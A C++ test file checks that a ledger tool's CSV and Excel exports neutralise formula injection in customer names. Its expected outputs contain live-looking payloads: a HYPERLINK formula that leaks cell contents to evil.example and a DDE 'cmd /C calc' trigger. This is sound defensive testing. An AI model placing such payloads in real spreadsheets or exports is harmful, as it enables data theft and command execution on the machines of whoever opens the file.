// Names and references come from outside the company. Every file a person
// opens in a spreadsheet neutralises text a spreadsheet would run as a
// formula; numbers stay numbers; the ledger export, read back by an
// import, keeps every value exact.
#include "duedesk/reports/AgingReport.h"
#include "duedesk/reports/AgingXlsx.h"
#include "duedesk/reports/CsvWriter.h"
#include "duedesk/storage/LedgerDatabase.h"
#include "support/TestSupport.h"

#include <catch2/catch.hpp>

using namespace duedesk;
using namespace duedesk::test;

namespace {
std::string q(const std::string& s) { return "'" + s + "'"; }

std::string hostileLedger(TempDir& dir) {
    const std::string db = dir.file("ledger.db");
    REQUIRE(
        runCli("--db " + q(db) + " import " + q(testDataPath("hostile-names.csv")) + " --as-of 2026-06-30").exitCode ==
        0);
    return db;
}
} // namespace

TEST_CASE("A text cell a spreadsheet would run is neutralised; numbers are not", "[export][csv]") {
    for (const char* formula : {"=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"})
        CHECK(CsvWriter::looksLikeFormula(formula));
    for (const char* text : {"Acme", "", " =1", "1-2", "'=1"}) CHECK_FALSE(CsvWriter::looksLikeFormula(text));
    std::string sheet;
    CsvWriter(sheet, CsvReader::Spreadsheet).field("=1+1").field("Acme").number("-300.00").field("-2").endRow();
    CHECK(sheet == "\"'=1+1\",Acme,-300.00,\"'-2\"\r\n");
    std::string exact;
    CsvWriter(exact, CsvReader::Program).field("=1+1").field("Acme").number("-300.00").field("-2").endRow();
    CHECK(exact == "=1+1,Acme,-300.00,-2\r\n");
}

TEST_CASE("The aging CSV neutralises hostile customer names and keeps negative amounts numbers", "[export][csv]") {
    TempDir dir;
    const std::string db = hostileLedger(dir);
    const CliRun r = runCli("--db " + q(db) + " aging --as-of 2026-06-30 --by account --format csv --buckets 30");
    REQUIRE(r.exitCode == 0);
    CHECK(r.out ==
          "as_of,account,name,currency,current,1-30,31+,unapplied,total,disputed\r\n"
          "2026-06-30,H1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Click\"\")\",GBP,100.00,0.00,0.00,"
          "0.00,100.00,0.00\r\n"
          "2026-06-30,H2,\"'@SUM(1+1)*cmd|' /C calc'!A0\",GBP,0.00,200.00,0.00,0.00,200.00,0.00\r\n"
          "2026-06-30,H3,\"'-2+3 Trading\",GBP,0.00,300.00,0.00,-500.00,-200.00,0.00\r\n"
          "2026-06-30,Total,,GBP,100.00,500.00,0.00,-500.00,100.00,0.00\r\n");
}

TEST_CASE("The aging workbook holds hostile names as text, never as formulas", "[export][xlsx]") {
    TempDir dir;
    const std::string db = hostileLedger(dir);
    auto ledger = LedgerDatabase::open(db, LedgerDatabase::OpenMode::ExistingOnly);
    AgingOptions options;
    options.asOf = Date::ymd(2026, 6, 30);
    options.grouping = OpenItemGrouping::Account;
    const std::string book = dir.file("aging.xlsx");
    writeAgingXlsx(computeAging(*ledger, options), book);
    const CliRun sheet = runProgram("unzip", "-p " + q(book) + " xl/worksheets/sheet1.xml");
    REQUIRE(sheet.exitCode == 0);
    // No cell is a formula; text cells are strings written in the cell.
    CHECK(sheet.out.find("<f>") == std::string::npos);
    CHECK(sheet.out.find("<c r=\"B4\" t=\"inlineStr\"") != std::string::npos);
    CHECK(sheet.out.find("<t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1;\"Click\")</t>") != std::string::npos);
    CHECK(sheet.out.find("<t>@SUM(1+1)*cmd|' /C calc'!A0</t>") != std::string::npos);
    CHECK(sheet.out.find("<t>-2+3 Trading</t>") != std::string::npos);
}

TEST_CASE("The ledger export keeps hostile values exact, for the import that reads it back", "[export][csv]") {
    TempDir dir;
    const std::string db = hostileLedger(dir);
    const std::string file = dir.file("export.csv");
    REQUIRE(runCli("--db " + q(db) + " export " + q(file)).exitCode == 0);
    const std::string out = readFile(file);
    CHECK(out.find("H1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Click\"\")\",INV-1,") != std::string::npos);
    CHECK(out.find("H2,@SUM(1+1)*cmd|' /C calc'!A0,INV-2,") != std::string::npos);
    CHECK(out.find(",=1+1,") != std::string::npos);
    // Read back into a new ledger, it ages exactly as the original.
    const std::string copy = dir.file("copy.db");
    REQUIRE(runCli("--db " + q(copy) + " import " + q(file) + " --as-of 2026-06-30").exitCode == 0);
    const std::string aging = " aging --as-of 2026-06-30 --by account --format csv";
    CHECK(runCli("--db " + q(copy) + aging).out == runCli("--db " + q(db) + aging).out);
}
